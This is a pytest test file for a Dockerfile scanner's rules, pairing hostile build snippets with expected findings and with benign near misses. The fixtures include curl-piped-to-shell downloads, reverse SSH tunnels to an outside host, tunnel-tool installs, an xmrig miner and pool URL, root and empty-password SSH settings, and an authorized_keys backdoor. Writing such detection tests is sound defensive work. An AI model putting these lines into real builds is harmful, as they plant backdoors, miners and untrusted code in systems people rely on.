"""Each rule on builds: what it finds, on which line and how bad; and the near miss beside it."""

import pytest

from scanner.checking import check
from scanner.model import Report

MINER = "xm" + "rig"
POOL = "stra" + "tum+tcp://pool.min" + "exmr.com:4444"
KEY = "-----BEGIN OPENSSH " + "PRIVATE KEY-----"
HEAD = "FROM debian:12\n"

Found = tuple[str, int, str]
HITS: dict[str, tuple[str, set[Found]]] = {
    # ---- build/remote-script
    "pipe": (HEAD + "RUN curl -fsSL https://a.example/x | sh\n", {("build/remote-script", 2, "medium")}),
    "pipe, third line": (
        HEAD + "RUN set -e && \\\n    # why\n    curl -fsSL https://a.example/x \\\n      | sudo bash -s -- -y\n",
        {("build/remote-script", 5, "medium")},
    ),
    "substitution": (HEAD + 'RUN sh -c "$(wget -qO- https://a.example/x)"\n', {("build/remote-script", 2, "medium")}),
    "process substitution": (
        HEAD + 'SHELL ["/bin/bash", "-c"]\nRUN bash <(curl -s https://a.example/x)\n',
        {("build/remote-script", 3, "medium")},
    ),
    "exec form": (HEAD + 'RUN ["sh", "-c", "curl https://a.example/x | sh"]\n', {("build/remote-script", 2, "medium")}),
    "heredoc": (
        HEAD + "RUN <<EOF\nset -e\necho a\ncurl https://a.example/x | sh\nEOF\n",
        {("build/remote-script", 5, "medium")},
    ),
    "variables": (
        HEAD + "ARG V=3\nENV BASE=https://a.example\nRUN curl $BASE/$V/x | sh\n",
        {("build/remote-script", 4, "medium")},
    ),
    "python reads": (HEAD + "RUN curl https://a.example/x | python3 -\n", {("build/remote-script", 2, "medium")}),
    "python fetches": (
        HEAD + "RUN python3 -c \"import urllib.request as u; exec(u.urlopen('https://a.example/x').read())\"\n",
        {("build/remote-script", 2, "medium")},
    ),
    "kept, then run": (
        HEAD + "WORKDIR /tmp\nRUN wget https://a.example/install.sh && \\\n    bash install.sh\n",
        {("build/remote-script", 4, "medium")},
    ),
    "plain http": (HEAD + "RUN curl http://a.example/x | sh\n", {("build/remote-script", 2, "high")}),
    "no certificate": (HEAD + "RUN curl -fsSLk https://a.example/x | sh\n", {("build/remote-script", 2, "high")}),
    "at each start": (HEAD + "CMD curl https://a.example/x | sh\n", {("build/remote-script", 2, "high")}),
    "added, then run": (
        HEAD + "ADD https://a.example/x.sh /opt/\nRUN chmod +x /opt/x.sh && /opt/x.sh\n",
        {("build/remote-script", 2, "medium")},
    ),
    "only a builder nobody uses": (
        "FROM debian:12 AS other\nRUN curl https://a.example/x | sh\nFROM debian:12\nRUN true\n",
        {("build/remote-script", 2, "low")},
    ),
    "a builder that is copied from": (
        "FROM debian:12 AS one\nRUN curl https://a.example/x | sh\nFROM debian:12\nCOPY --from=one /x /x\n",
        {("build/remote-script", 2, "medium")},
    ),
    "left to others": (HEAD + "ONBUILD RUN curl https://a.example/x | sh\n", {("build/remote-script", 2, "medium")}),
    "behind a byte that is no text": (
        HEAD + "# \0\nRUN curl https://a.example/x | sh\n",
        {("build/remote-script", 3, "medium")},
    ),
    "a program hands it on": (
        HEAD + 'RUN python3 <<EOF\nimport os\nos.system("curl https://a.example/x | sh")\nEOF\n',
        {("build/remote-script", 2, "medium")},
    ),
    "every RUN begins with it": (
        HEAD + 'SHELL ["/bin/sh", "-c", "curl https://a.example/x | sh; true"]\nRUN true\n',
        {("build/remote-script", 2, "medium")},
    ),
    "the command itself": (
        HEAD + "RUN true && \\\n    $(curl -fsSL https://a.example/x)\n",
        {("build/remote-script", 3, "medium")},
    ),
    "a variable": (
        HEAD + 'RUN S=$(curl https://a.example/x) && \\\n    eval "$S"\n',
        {("build/remote-script", 3, "medium")},
    ),
    "a here-string": (
        HEAD + 'SHELL ["/bin/bash", "-c"]\nRUN bash <<< "$(curl https://a.example/x)"\n',
        {("build/remote-script", 3, "medium")},
    ),
    "kept in one step, run in another": (
        HEAD + "RUN curl -o /tmp/x https://a.example/x\nRUN chmod +x /tmp/x\nCMD /tmp/x\n",
        {("build/remote-script", 4, "high")},
    ),
    "moved, then run by its name": (
        HEAD + "RUN curl -O https://a.example/setup.sh && install -m 755 setup.sh /usr/local/bin/\nRUN setup.sh\n",
        {("build/remote-script", 3, "medium")},
    ),
    "fetched by the stage it is built on": (
        "FROM a AS one\nRUN curl -o /opt/x.sh https://a.example/x\nFROM one\nRUN true && \\\n  sh /opt/x.sh\n",
        {("build/remote-script", 5, "medium")},
    ),
    "fetched by the stage it is copied from": (
        "FROM a AS one\nADD https://a.example/x.sh /opt/\nFROM b\nCOPY --from=one /opt /srv/\nCMD /srv/x.sh\n",
        {("build/remote-script", 5, "high")},
    ),
    "another user's shell": (
        HEAD + 'RUN su -c "$(curl https://a.example/x)"\n',
        {("build/remote-script", 2, "medium")},
    ),
    # ---- build/tunnel-tool
    "apt": (
        HEAD
        + "RUN apt-get update && apt-get install -y --no-install-recommends \\\n    curl \\\n    autossh=1.4g-1 \\\n    proxychains4\n",
        {("build/tunnel-tool", 4, "medium"), ("build/tunnel-tool", 5, "medium")},
    ),
    "apk": (HEAD + "RUN apk add --no-cache -t .deps tor\n", {("build/tunnel-tool", 2, "high")}),
    "pip": (HEAD + "RUN python3 -m pip install 'pyngrok[x]==7'\n", {("build/tunnel-tool", 2, "high")}),
    "npm": (HEAD + "RUN npm install -g localtunnel@2\n", {("build/tunnel-tool", 2, "high")}),
    "go": (HEAD + "RUN go install github.com/jpillora/chisel@latest\n", {("build/tunnel-tool", 2, "high")}),
    "cargo": (HEAD + "RUN cargo install rathole\n", {("build/tunnel-tool", 2, "high")}),
    "release": (
        HEAD
        + "ARG V=0.58.1\nRUN curl -L https://github.com/fatedier/frp/releases/download/v${V}/frp_${V}_linux_amd64.tar.gz | tar xz\n",
        {("build/tunnel-tool", 3, "high")},
    ),
    "added release": (
        HEAD
        + "ADD https://github.com/cloudflare/cloudflared/releases/latest/download/cloudflared-linux-amd64 /usr/bin/c\n",
        {("build/tunnel-tool", 2, "high")},
    ),
    "mirror": (
        HEAD + "RUN wget https://mirror.example/cloudflared-linux-amd64.deb\n",
        {("build/tunnel-tool", 2, "high")},
    ),
    # ---- build/ssh-server
    "installed": (HEAD + "RUN apt-get install -y \\\n  openssh-server\n", {("build/ssh-server", 3, "medium")}),
    "started": (
        HEAD + 'RUN apt-get install -y openssh-server\nCMD ["/usr/sbin/sshd", "-D"]\n',
        {("build/ssh-server", 3, "high")},
    ),
    "enabled": (HEAD + "RUN apk add dropbear && service ssh start\n", {("build/ssh-server", 2, "medium")}),
    "root let in": (
        HEAD
        + "RUN apt-get install -y openssh-server && \\\n    sed -i 's/#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config\n",
        {("build/ssh-server", 2, "medium"), ("build/ssh-server", 3, "high")},
    ),
    "password let in": (
        HEAD + "RUN echo 'PasswordAuthentication yes' >> /etc/ssh/sshd_config\n",
        {("build/ssh-server", 2, "medium")},
    ),
    "configuration in a heredoc": (
        HEAD
        + "RUN apk add openssh-server\nCOPY <<EOF /etc/ssh/sshd_config.d/x.conf\nPort 22\nPermitEmptyPasswords yes\nEOF\n",
        {("build/ssh-server", 2, "medium"), ("build/ssh-server", 5, "critical")},
    ),
    "password": (
        HEAD + "RUN apt-get install -y openssh-server\nRUN echo 'root:s3cr3tw0rd' | chpasswd\n",
        {("build/ssh-server", 2, "medium"), ("build/ssh-server", 3, "high")},
    ),
    # ---- build/key
    "key copied": (HEAD + "COPY id_ed25519 /root/.ssh/\n", {("build/key", 2, "high")}),
    "folder copied": (HEAD + "COPY --chown=a .ssh/ /home/a/.ssh/\n", {("build/key", 2, "high")}),
    "key in an argument": (HEAD + "ARG A\nARG SSH_PRIVATE_KEY\n", {("build/key", 3, "medium")}),
    "key written": (
        HEAD
        + 'ARG K\nRUN mkdir -p /root/.ssh && \\\n  echo "$K" > /root/.ssh/id_rsa && git clone x && rm /root/.ssh/id_rsa\n',
        {("build/key", 4, "high")},
    ),
    "door": (
        HEAD + 'RUN mkdir -p /root/.ssh && echo "ssh-ed25519 AAAA me" >> /root/.ssh/authorized_keys\n',
        {("build/key", 2, "medium")},
    ),
    "key made": (HEAD + "RUN ssh-keygen -t ed25519 -N '' -f /root/.ssh/id_ed25519\n", {("build/key", 2, "medium")}),
    "host keys made": (HEAD + "RUN ssh-keygen -A\n", {("build/key", 2, "low")}),
    "key in the file": (HEAD + f"RUN printf '{KEY}\\nabc' > /k\n", {("build/key", 2, "high")}),
    # ---- build/miner
    "miner's release": (
        HEAD + f"RUN wget https://github.com/{MINER}/{MINER}/releases/download/v6/{MINER}.tar.gz\n",
        {("build/miner", 2, "high")},
    ),
    "miner's package": (HEAD + f"RUN apk add \\\n  {MINER}\n", {("build/miner", 3, "high")}),
    "miner's image": (f"FROM {MINER}/{MINER}:6.21\nRUN true\n", {("build/miner", 1, "high")}),
    "miner's repository": (
        HEAD + f"RUN git clone https://github.com/{MINER}/{MINER}.git /x\n",
        {("build/miner", 2, "high")},
    ),
    # ---- what an image's own rules say of a build
    "reverse tunnel in a RUN": (
        HEAD + "RUN true && \\\n  ssh -f -N -R 2222:localhost:22 u@h.example\n",
        {("tunnel/reverse-ssh", 3, "high")},
    ),
    "reverse tunnel at the start": (
        HEAD + 'ENTRYPOINT ["ssh", \\\n  "-N", "-R", "2222:localhost:22", "u@h.example"]\n',
        {("tunnel/reverse-ssh", 2, "critical")},
    ),
    "miner at the start": (
        HEAD + f"ENV P={POOL}\nCMD /opt/{MINER} -o $P --donate-level 1 -u w\n",
        {("build/miner", 3, "high")},
    ),
    "a health check": (
        HEAD + "HEALTHCHECK CMD ssh -N -R 2222:localhost:22 u@h.example\n",
        {("tunnel/reverse-ssh", 2, "critical")},
    ),
}

MISSES: dict[str, str] = {
    "checked": HEAD + "RUN curl -fsSLo i.sh https://a.example/i.sh && echo 'ab  i.sh' | sha256sum -c - && sh i.sh\n",
    "signed": HEAD
    + "RUN wget https://a.example/i.sh https://a.example/i.sh.asc && gpg --verify i.sh.asc i.sh && sh i.sh\n",
    "added with a checksum": HEAD + "ADD --checksum=sha256:ab https://a.example/x.sh /x.sh\nRUN sh /x.sh\n",
    "fetched as data": HEAD
    + "RUN curl https://a.example/x | jq . && curl https://a.example/y | python3 -m json.tool\n",
    "checked by the stage it is copied from": "FROM a AS one\nRUN curl -o /x.sh https://a.example/x && echo 'ab  /x.sh' | sha256sum -c -\n"
    "FROM b\nCOPY --from=one /x.sh /x.sh\nRUN sh /x.sh\n",
    "another file of that stage": "FROM a AS one\nRUN curl -o /x.sh https://a.example/x\nFROM b\nCOPY --from=one /y.sh /x.sh\nRUN sh /x.sh\n",
    "given as words": HEAD
    + 'RUN V=$(curl https://a.example/v) && sh build.sh "$V" && ./configure --v="$(curl https://a.example/v)"\n',
    "worked on": HEAD + "RUN curl https://a.example/x | /opt/install-data && curl https://a.example/x | sh import.sh\n",
    "a program by its name": HEAD + "RUN curl -o /usr/local/bin/kubectl https://a.example/kubectl && kubectl version\n",
    "waits for a server": HEAD + "RUN until $(curl -o /dev/null -sf http://a.example/up); do sleep 1; done\n",
    "from here": HEAD + "RUN curl http://localhost:8000/x | sh\n",
    "only said": HEAD + 'RUN echo "curl https://a.example/x | sh"\n',
    "commented": HEAD + "# RUN curl https://a.example/x | sh\nRUN true\n",
    "file of its own": HEAD + "RUN curl -o data https://a.example/x && sh build.sh\n",
    "ssh client": HEAD + "RUN apt-get install -y openssh-client git\n",
    "removed": HEAD + "RUN apt-get remove -y autossh openssh-server\n",
    "a path with the name": HEAD + "COPY ngrok.md chisel/ /docs/\nRUN ls /docs/tor\n",
    "documentation by address": HEAD + "RUN curl -O https://docs.example/frp/readme.html\n",
    "key scan": HEAD
    + "RUN ssh-keyscan github.com >> /root/.ssh/known_hosts && ssh-keygen -R a -f /root/.ssh/known_hosts\n",
    "mounts": HEAD
    + "RUN --mount=type=ssh --mount=type=secret,id=k,target=/root/.ssh/id_rsa git clone git@h.example:a\n",
    "public key": HEAD + "COPY id_rsa.pub /k\nARG SSH_PUBLIC_KEY\nARG SSH_KEY_PATH=/k\nENV SSH_AUTH_SOCK=/s\n",
    "root kept out": HEAD + "RUN sed -i 's/PermitRootLogin yes/PermitRootLogin no/' /etc/ssh/sshd_config\n",
    "miner only said": HEAD + f"RUN echo no {MINER} here && pkill {MINER} || true\n",
    "server only tested": HEAD + "RUN sshd -t\n",
}


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Report:
    """All cases in one repository, each in a folder of its own."""
    root = tmp_path_factory.mktemp("cases")
    texts = {**{name: text for name, (text, _) in HITS.items()}, **MISSES}
    for number, text in enumerate(texts.values()):
        (root / str(number)).mkdir()
        (root / str(number) / "Dockerfile").write_text(text)
    return check([root])


def said(report: Report, number: int) -> set[Found]:
    return {
        (f.rule_id, f.source.line, f.severity.value)
        for f in report.findings
        if f.source is not None and f.source.file.split("/")[-2] == str(number)
    }


@pytest.mark.parametrize(("number", "name"), list(enumerate(HITS)))
def test_a_rule_finds_it_on_its_line(report: Report, number: int, name: str) -> None:
    assert said(report, number) == HITS[name][1]


@pytest.mark.parametrize(("number", "name"), list(enumerate(MISSES, len(HITS))))
def test_a_near_miss_is_left_alone(report: Report, number: int, name: str) -> None:
    assert said(report, number) == set()


def test_nothing_is_left_unread_and_nothing_speaks_of_layers(report: Report) -> None:
    assert report.complete, report.notifications
    for finding in report.findings:
        assert "layer" not in finding.message.lower() or finding.rule_id.startswith("build/key")
        assert "steps-" not in finding.message
        assert all(b"steps-" not in e.path for e in finding.evidence)


def test_a_password_is_never_printed(report: Report) -> None:
    assert "s3cr3tw0rd" not in repr(report)
